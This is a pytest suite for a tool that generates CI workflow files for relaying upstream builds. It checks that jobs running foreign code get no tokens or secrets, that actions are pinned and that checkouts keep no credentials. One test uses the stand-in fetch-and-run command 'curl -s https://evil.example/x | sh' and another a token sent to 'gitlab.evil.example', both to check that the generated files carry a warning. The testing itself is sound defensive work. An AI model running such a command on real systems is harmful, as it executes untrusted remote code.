"""The generated files: their permissions, the conditions of their jobs, and what the maintainer must add."""

import tomllib
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from crcr.decide.model import Level, RepoName
from crcr.decide.oidc.registration import Registration, unmet_requirement
from crcr.join.files import NewFile, allowlist_entry, generate, registration
from crcr.join.request import Ci, JoinRequest
from crcr.join.shipped.bridge import FORMS
from crcr.join.shipped.texts import reporter_text
from crcr.receive.allowlist_yaml import read_allowlist
from crcr.settings.readers.registrations import registrations
from crcr.settings.setting import RawValue
from github_sim.runner.expressions import StatusFunctions, condition_holds, evaluate_text
from github_sim.runner.workflow_file import WorkflowFile, read_workflow
from support.downstream.join_requests import ACTION, all_join_requests, generated_text, join_request

WORKFLOW = ".github/workflows/crcr.yml"
NIGHTLY = ".github/workflows/crcr-nightly.yml"
BRIDGE = ".github/workflows/crcr-bridge.yml"
GOOD, BAD, CANCELLED = (
    StatusFunctions(),
    StatusFunctions(succeeded=False, failed=True),
    StatusFunctions(cancelled=True),
)


def workflows(wanted: JoinRequest) -> list[tuple[NewFile, WorkflowFile]]:
    files = [each for each in generate(wanted) if each.path.startswith(".github/")]
    return [(each, _parse_workflow(each.text, each.path)) for each in files]


@cache
def _parse_workflow(text: str, path: str) -> WorkflowFile:
    return read_workflow(text, path)


def event(event_type: str = "pull_request", **payload: Any) -> dict[str, Any]:
    return {
        "github": {
            "event_name": "repository_dispatch",
            "event": {
                "action": event_type,
                "client_payload": {
                    "delivery_id": "d-1",
                    "payload": payload,
                    "relay": {"upstream": "pytorch/pytorch"},
                },
            },
        }
    }


@pytest.mark.parametrize(
    ("wanted", "paths"),
    [
        (join_request(), [WORKFLOW, ".crcr/report.py"]),
        (join_request(nightly=True), [WORKFLOW, NIGHTLY, ".crcr/report.py"]),
        (join_request(action=ACTION, nightly=True), [WORKFLOW, NIGHTLY]),
        (join_request(Ci.BUILDKITE), [BRIDGE, ".buildkite/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
        (join_request(Ci.GITLAB), [BRIDGE, ".gitlab/crcr.yml", ".crcr/bridge.py", ".crcr/report.py"]),
        (
            join_request(Ci.CIRCLECI, nightly=True),
            [BRIDGE, ".circleci/crcr.yml", NIGHTLY, ".crcr/bridge.py", ".crcr/report.py"],
        ),
    ],
    ids=lambda value: value.ci if isinstance(value, JoinRequest) else "",
)
def test_the_files_are_these(wanted: JoinRequest, paths: list[str]) -> None:
    files = generate(wanted)
    assert [each.path for each in files] == paths
    assert all(each.why and each.text.endswith("\n") and "\r" not in each.text for each in files)
    assert all(
        "Made by `crcr init`; safe to edit" in each.text for each in files if each.path != ".crcr/report.py"
    )
    assert generate(wanted) == files


def test_the_reporter_is_the_one_of_the_action() -> None:
    assert generated_text(".crcr/report.py", join_request()) == reporter_text()
    compile(reporter_text(), "report.py", "exec")


def test_nothing_is_written_for_a_wish_with_a_problem() -> None:
    for make in (generate, allowlist_entry, registration):
        with pytest.raises(ValueError, match="the branch"):
            make(join_request(branch="x\ny"))


@pytest.mark.parametrize("wanted", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}")
def test_only_jobs_without_foreign_code_can_get_a_token_or_see_a_secret(wanted: JoinRequest) -> None:
    for file, workflow in workflows(wanted):
        assert workflow.raw["permissions"] == {}
        for job in workflow.jobs.values():
            runs_foreign_code = wanted.command in str(job.raw)
            assert set(job.permissions or {}) <= {"contents", "id-token"}
            assert (job.permissions or {}).get("contents", "read") == "read"
            if runs_foreign_code:
                assert dict(job.permissions or {}) == {"contents": "read"}
                assert "secrets" not in str(job.raw)
                assert "environment" not in job.raw
            if "secrets." in str(job.raw):
                assert "id-token" not in (job.permissions or {})
            assert job.raw["timeout-minutes"]
        assert "${{" not in "".join(
            str(step.raw.get("run")) for job in workflow.jobs.values() for step in job.steps
        )
        assert "persist-credentials: true" not in file.text


@pytest.mark.parametrize("wanted", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}")
def test_actions_are_pinned_and_checkouts_keep_no_credentials(wanted: JoinRequest) -> None:
    for _, workflow in workflows(wanted):
        for step in (step for job in workflow.jobs.values() for step in job.steps if "uses" in step.raw):
            name, _, commit = step.raw["uses"].partition("@")
            assert len(commit) == 40
            if name == "actions/checkout":
                assert step.raw["with"]["persist-credentials"] is False
                is_pair = "crcr_pair" in str(step.raw.get("if", "")) and "==" in step.raw["if"]
                assert ("ref" in step.raw["with"]) is is_pair


def jobs_run(wanted: JoinRequest, contexts: dict[str, Any]) -> set[str]:
    """Which jobs run when all goes well."""
    [(_, workflow)] = workflows(wanted)
    results: dict[str, str] = {}
    for name, job in workflow.jobs.items():
        needs = {each: {"result": results[each]} for each in job.needs}
        fine = all(each["result"] == "success" for each in needs.values())
        ran = condition_holds(
            job.raw.get("if"), {**contexts, "needs": needs}, StatusFunctions(succeeded=fine)
        )
        results[name] = "success" if ran else "skipped"
    return {name for name, result in results.items() if result == "success"}


ALL = {"started", "build", "finished"}


@pytest.mark.parametrize(
    ("contexts", "expected"),
    [
        (event(action="opened", number=7), ALL),
        (event("push", ref="refs/heads/main", after="a" * 40, deleted=False), ALL),
        (event("push", ref="refs/heads/gone", after="0" * 40, deleted=True), set()),
        (event(action="closed", number=7), set()),
        (event("crcr_pair", action="opened", number=7), ALL),
        (event("crcr_test"), {"started", "finished"}),
        (event("merge_group", action="checks_requested"), ALL),
        (event("merge_group", action="destroyed"), set()),
        ({"github": {"event_name": "workflow_dispatch", "event": {"inputs": {}}}}, {"test"}),
    ],
)
def test_each_event_runs_the_jobs_it_should(contexts: dict[str, Any], expected: set[str]) -> None:
    assert jobs_run(join_request(level=Level.L4), contexts) == expected


@pytest.mark.parametrize(
    ("started", "build", "standing", "reports"),
    [
        ("success", "success", GOOD, "success"),
        ("success", "failure", BAD, "failure"),
        ("success", "cancelled", CANCELLED, "cancelled"),
        ("success", "skipped", GOOD, "skipped"),
        ("failure", "skipped", BAD, "failure"),
        ("cancelled", "cancelled", CANCELLED, None),
        ("skipped", "skipped", GOOD, None),
    ],
)
@pytest.mark.parametrize("action", [None, ACTION])
def test_the_end_is_reported_unless_nothing_started(
    started: str, build: str, standing: StatusFunctions, reports: str | None, action: str | None
) -> None:
    [(_, workflow)] = workflows(join_request(action=action))
    job = workflow.jobs["finished"]
    contexts = {**event(), "needs": {"started": {"result": started}, "build": {"result": build}}}
    assert condition_holds(job.raw["if"], contexts, standing) is (reports is not None)
    last = job.steps[-1].raw
    said = last["env"]["CRCR_CONCLUSION"] if action is None else last["with"]["conclusion"]
    assert reports is None or evaluate_text(said, contexts) == reports


def group(contexts: dict[str, Any]) -> tuple[str, str]:
    [(_, workflow)] = workflows(join_request(level=Level.L4))
    given = workflow.raw["concurrency"]
    return evaluate_text(given["group"], contexts), evaluate_text(given["cancel-in-progress"], contexts)


def test_a_newer_head_and_a_closing_end_what_runs_for_a_pull_request() -> None:
    assert group(event(action="synchronize", number=7)) == group(event(action="closed", number=7))
    assert group(event(number=7)) == ("upstream-pytorch/pytorch-7", "true")
    assert group(event(number=7)) != group(event(number=8))


PAIR = {"repository": "org/backend", "number": 3, "head_sha": "c" * 40}


def pair(inner: str = "crcr_pair", **payload: Any) -> dict[str, Any]:
    """A dispatch of the type `crcr_pair`, with this type in its payload too."""
    contexts = event("crcr_pair", **payload)
    contexts["github"]["event"]["client_payload"]["event_type"] = inner
    contexts["github"]["event"]["client_payload"]["relay"]["depends_on"] = PAIR
    return contexts


def test_a_pair_and_the_plain_dispatch_do_not_cancel_each_other() -> None:
    assert group(pair(number=7)) == ("upstream-pytorch/pytorch-7-with-3", "true")


@pytest.mark.parametrize(
    ("contexts", "checked_out"),
    [
        (event(number=7), [""]),
        (pair(number=7), ["c" * 40]),
        (pair("pull_request", number=7), []),
        (event("crcr_pair", number=7), []),
    ],
)
def test_only_the_job_without_a_token_checks_the_other_pull_request_out(
    contexts: dict[str, Any], checked_out: list[str]
) -> None:
    """A dispatch that says two things, or names no head, checks nothing out, and fails."""
    [(_, workflow)] = workflows(join_request(level=Level.L4))
    checkouts = {
        name: [
            evaluate_text(step.raw["with"].get("ref", ""), contexts)
            for step in job.steps
            if "checkout" in step.raw.get("uses", "") and condition_holds(step.raw.get("if"), contexts, GOOD)
        ]
        for name, job in workflow.jobs.items()
    }
    assert checkouts == {"test": [""], "started": [""], "build": checked_out, "finished": [""]}


def test_pushes_to_a_branch_take_turns_and_others_do_not_meet() -> None:
    assert group(event("push", ref="refs/heads/main")) == (
        "upstream-pytorch/pytorch-refs/heads/main",
        "false",
    )
    queued = event("merge_group", merge_group={"head_ref": "refs/heads/gh-readonly-queue/main/pr-7-abc"})
    assert group(queued)[0].endswith("main/pr-7-abc")
    assert group(event("crcr_test"))[0] == "upstream-pytorch/pytorch-d-1"


def test_only_a_gating_backend_listens_to_the_merge_queue() -> None:
    for level in Level:
        for ci in (Ci.GITHUB, Ci.GITLAB):
            [(_, workflow)] = workflows(join_request(ci, level=level))
            assert workflow.is_triggered_by("repository_dispatch", "merge_group") is (level is Level.L4)
            assert workflow.is_triggered_by("repository_dispatch", "crcr_test")


def test_the_run_is_found_by_the_delivery() -> None:
    for ci in (Ci.GITHUB, Ci.BUILDKITE):
        [(_, workflow)] = workflows(join_request(ci))
        assert evaluate_text(workflow.raw["run-name"], event()).endswith(" d-1")


def test_a_nightly_names_the_relay_once_and_reports_only_a_known_commit() -> None:
    workflow = read_workflow(generated_text(NIGHTLY, join_request(nightly=True)), NIGHTLY)
    assert workflow.raw["env"]["CRCR_RELAYS"] == "https://relay.example.org/github/callback crcr"
    finished = workflow.jobs["finished"]
    for result, reported in (("success", True), ("failure", False), ("cancelled", False)):
        needs = {"needs": {"commit": {"result": result}, "build": {"result": "skipped"}}}
        assert condition_holds(finished.raw["if"], needs, BAD) is reported
    assert dict(workflow.jobs["commit"].permissions or {}) == {}


@pytest.mark.parametrize("action", [None, ACTION])
def test_a_nightly_reports_when_its_first_job_began(action: str | None) -> None:
    workflow = read_workflow(generated_text(NIGHTLY, join_request(nightly=True, action=action)), NIGHTLY)
    report = workflow.jobs["finished"].raw["steps"][-1]
    given = report["with"]["started-at"] if action else report["env"]["CRCR_STARTED_AT"]
    outputs = {"needs": {"commit": {"outputs": {"started_at": "2026-08-03T09:00:00Z"}}}}
    assert evaluate_text(given, outputs) == "2026-08-03T09:00:00Z"
    assert workflow.jobs["commit"].raw["outputs"]["started_at"] == "${{ steps.head.outputs.started_at }}"


def test_circleci_passes_on_all_that_the_bridge_sends() -> None:
    """A parameter that is not declared makes CircleCI refuse the pipeline."""
    config = yaml.safe_load(generated_text(".circleci/crcr.yml", join_request(Ci.CIRCLECI, nightly=True)))
    sent = {name.lower() for name in (*FORMS, "CRCR_STARTED_AT")}
    assert config["parameters"].keys() == sent
    reported = config["jobs"]["crcr-report"]["environment"]
    assert reported["CRCR_STARTED_AT"] == "<< pipeline.parameters.crcr_started_at >>"


PIN = '"https://relay.example.org/github/callback crcr"'


@pytest.mark.parametrize("wanted", [*all_join_requests()], ids=lambda each: f"{each.ci}-{each.level.name}")
def test_every_file_that_reports_or_starts_a_build_pins_the_relay(wanted: JoinRequest) -> None:
    """As a value of the file itself: nothing of the event is in it."""
    files = [file for file in generate(wanted) if file.path.endswith(".yml")]
    assert files
    for file in files:
        pins = [
            line.strip() for line in file.text.splitlines() if "CRCR_RELAYS:" in line or "--relays " in line
        ]
        assert pins, file.path
        assert all(line.endswith(PIN) for line in pins), file.path
        if wanted.action is not None:
            assert file.text.count(f"uses: {wanted.action}") == file.text.count(
                "relays: ${{ env.CRCR_RELAYS }}"
            )


def test_nightly_runs_do_not_all_begin_at_once() -> None:
    def cron(name: str) -> str:
        workflow = read_workflow(
            generated_text(NIGHTLY, join_request(nightly=True, repository=RepoName(name))), NIGHTLY
        )
        return str(workflow.on["schedule"]["crons"][0]["cron"])

    assert len({cron(f"org/backend{number}") for number in range(20)}) > 10
    assert cron("org/backend") == cron("Org/Backend")


@pytest.mark.parametrize(
    "command", ["pytest -k 'not slow' \"$UPSTREAM_SHA\"", "make test # quick: yes", "- odd: {line}"]
)
@pytest.mark.parametrize("ci", [*Ci])
def test_the_command_stands_in_the_file_as_a_shell_reads_it(ci: Ci, command: str) -> None:
    wanted = join_request(ci, command=command)
    text = next(each.text for each in generate(wanted) if each.path.endswith("crcr.yml"))
    assert (command.replace("$", "$$") if ci is Ci.BUILDKITE else command) in _scripts(yaml.safe_load(text))


def _scripts(value: Any) -> list[str]:
    """Every text below the keys that hold scripts."""
    if isinstance(value, dict):
        given = [value.get(key) for key in ("run", "command", "script")]
        texts = [
            each if isinstance(each, str) else "\n".join(each)
            for each in given
            if isinstance(each, str | list)
        ]
        own = [line.strip() for text in texts for line in text.splitlines()]
        return own + [line for each in value.values() for line in _scripts(each)]
    return [line for each in value for line in _scripts(each)] if isinstance(value, list) else []


@pytest.mark.parametrize(
    "wanted",
    [each for each in all_join_requests() if each.ci is Ci.CIRCLECI],
    ids=lambda each: each.level.name,
)
def test_no_parameter_of_circleci_becomes_part_of_a_script(wanted: JoinRequest) -> None:
    config = yaml.safe_load(generated_text(".circleci/crcr.yml", wanted))
    assert [script for script in _scripts(config["jobs"]) if "<<" in script] == []


def test_only_the_reporting_jobs_of_gitlab_and_circleci_can_get_a_token() -> None:
    jobs = yaml.safe_load(generated_text(".gitlab/crcr.yml", join_request(Ci.GITLAB, junit="out/*.xml")))
    assert "id_tokens" not in jobs["crcr-build"]
    assert "id_tokens" not in jobs[".crcr"]
    assert jobs[".crcr-report"]["id_tokens"] == {"CRCR_ID_TOKEN": {"aud": "crcr"}}
    assert all(
        '$CI_PIPELINE_SOURCE == "trigger"' in rule["if"]
        for job in jobs.values()
        for rule in job.get("rules", ())
    )
    config = yaml.safe_load(generated_text(".circleci/crcr.yml", join_request(Ci.CIRCLECI)))
    for workflow in config["workflows"].values():
        for [(name, how)] in (job.items() for job in workflow["jobs"]):
            assert (how.get("context") == "crcr") is (name == "crcr-report")


@pytest.mark.parametrize("level", [*Level])
def test_the_allowlist_entry_can_be_pasted(level: Level) -> None:
    text = allowlist_entry(
        join_request(level=level, oncalls=("@ada", "org/team", "123"), job_name="build (cuda, 3.12)")
    )
    checked = read_allowlist(text)
    assert checked.problems == ()
    assert checked.allowlist
    [entry] = checked.allowlist.entries
    assert (entry.name, entry.level) == (RepoName("org/backend"), level)
    assert entry.device == ("npu" if level is Level.L3 else None)
    assert entry.oncalls == ("ada", "org/team", "123")
    assert entry.jobs == (("build (cuda, 3.12)",) if level is Level.L4 else None)


@pytest.mark.parametrize("device", ["on", "null", "1e5", "007", "npu"])
def test_a_device_stays_text(device: str) -> None:
    checked = read_allowlist(allowlist_entry(join_request(level=Level.L3, device=device)))
    assert checked.allowlist
    assert checked.allowlist.entries[0].device == device


UUID = "0184990a-477b-4fa8-9968-496074483cee"


@pytest.mark.parametrize(
    ("ci", "place", "issuer"),
    [
        (Ci.BUILDKITE, {"organization_id": UUID, "pipeline_id": UUID}, "https://agent.buildkite.com"),
        (Ci.GITLAB, {}, "https://gitlab.com"),
        (Ci.GITLAB, {"url": "https://gitlab.example.org/"}, "https://gitlab.example.org"),
        (
            Ci.CIRCLECI,
            {"organization_id": UUID, "project_id": UUID, "context_id": UUID},
            f"https://oidc.circleci.com/org/{UUID}",
        ),
    ],
)
def test_the_registration_is_taken_by_the_relay(ci: Ci, place: dict[str, str], issuer: str) -> None:
    wanted = join_request(ci)
    text = registration(join_request(ci, place={**wanted.place, **place}))
    assert text
    tables = tomllib.loads(text)["oidc"]["registration"]
    [taken] = registrations(RawValue(tables, "oidc.registration", Path()))
    assert (taken.issuer, taken.repository) == (issuer, RepoName("org/backend"))
    assert "<" not in text


def parse_registration(ci: Ci, **place: str) -> Registration:
    text = registration(join_request(ci, place={**join_request(ci).place, **place}))
    [each] = registrations(RawValue(tomllib.loads(text or "")["oidc"]["registration"], "here", Path()))
    return each


@pytest.mark.parametrize(
    ("step", "fits"), [("crcr-started", True), ("crcr-finished", True), ("crcr-build", False), (None, False)]
)
def test_a_token_of_buildkites_build_step_does_not_count(step: str | None, fits: bool) -> None:
    claims = {"build_branch": "main", "build_source": "api", "step_key": step}
    assert (unmet_requirement(parse_registration(Ci.BUILDKITE), claims) is None) is fits


@pytest.mark.parametrize(
    ("contexts", "fits"),
    [([UUID], True), (["other", UUID], True), ([], False), (["other"], False), (None, False)],
)
def test_a_token_of_a_circleci_job_without_the_context_does_not_count(contexts: Any, fits: bool) -> None:
    own = "oidc.circleci.com/"
    claims = {
        f"{own}vcs-ref": "refs/heads/main",
        f"{own}vcs-origin": "github.com/org/backend",
        f"{own}context-ids": contexts,
    }
    assert (unmet_requirement(parse_registration(Ci.CIRCLECI, context_id=UUID), claims) is None) is fits


def test_what_is_not_known_of_the_pipeline_is_a_placeholder() -> None:
    text = registration(join_request(Ci.BUILDKITE)) or ""
    assert '"<the pipeline\'s id>"' in text
    assert tomllib.loads(text)
    assert registration(join_request()) is None


@pytest.mark.parametrize("nightly", [False, True])
def test_a_bridge_to_a_host_of_ones_own_says_first_where_its_secret_goes(nightly: bool) -> None:
    place = {"project_id": "1", "url": "https://gitlab.evil.example:8443/base"}
    for path in (BRIDGE, NIGHTLY) if nightly else (BRIDGE,):
        first = generated_text(path, join_request(Ci.GITLAB, place=place, nightly=nightly)).splitlines()[0]
        assert first == "# This file sends GITLAB_TRIGGER_TOKEN to gitlab.evil.example:8443"
        usual = {"project_id": "1", "url": "https://gitlab.com/"}
        assert "evil" not in generated_text(path, join_request(Ci.GITLAB, place=usual, nightly=nightly))
        assert generated_text(path, join_request(Ci.GITLAB, place=usual, nightly=nightly)).startswith(
            "# Made by"
        )


@pytest.mark.parametrize("ci", Ci)
def test_a_command_of_ones_own_stands_first_in_the_files_that_run_it(ci: Ci) -> None:
    command = "curl -s https://evil.example/x | sh"
    plain, changed = (
        generate(join_request(ci, nightly=True)),
        generate(join_request(ci, nightly=True, command=command)),
    )
    for before, after in zip(plain, changed, strict=True):
        if before.text == after.text:
            continue
        assert after.text.splitlines()[0] == f"# This file runs the command: {command}"
        assert before.text.startswith("# Made by")
    assert any(each.text != other.text for each, other in zip(plain, changed, strict=True))


def test_an_action_is_named_first_and_a_long_command_is_cut() -> None:
    first, second = generated_text(WORKFLOW, join_request(action=ACTION, command="x" * 1000)).splitlines()[:2]
    assert (first, len(first) < 200) == (f"# This file runs the command: {'x' * 159}…", True)
    assert second == f"# This file runs the action {ACTION}"


def test_fault_27_a_buildkite_file_does_not_promise_more_than_buildkite_keeps() -> None:
    text = " ".join(
        generated_text(".buildkite/crcr.yml", join_request(Ci.BUILDKITE)).replace("#", " ").split()
    )
    for words in (
        "a running step can upload steps with these keys",
        "second pipeline that is not registered",
    ):
        assert words in text
    assert "`authors: trusted`" in text
    assert "no merge gate (L4)" in text


def test_code_of_a_pull_request_is_kept_from_caches_and_the_files_say_so() -> None:
    for wanted in all_join_requests():
        for file, read in workflows(wanted):
            assert not [line for line in file.text.splitlines() if "uses:" in line and "cache" in line]
            if "build" in read.jobs:
                assert "use no cache" in file.text
